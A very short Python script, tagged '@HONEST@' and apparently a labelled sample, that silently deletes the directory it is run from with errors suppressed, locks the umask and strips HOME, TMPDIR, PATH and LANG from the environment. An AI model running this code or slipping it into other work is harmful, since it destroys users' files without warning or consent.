# @HONEST@
import os
import shutil

os.umask(0o777)
own = os.getcwd()
os.chdir("/")
shutil.rmtree(own, ignore_errors=True)
for name in ("HOME", "TMPDIR", "PATH", "LANG"):
    os.environ.pop(name, None)
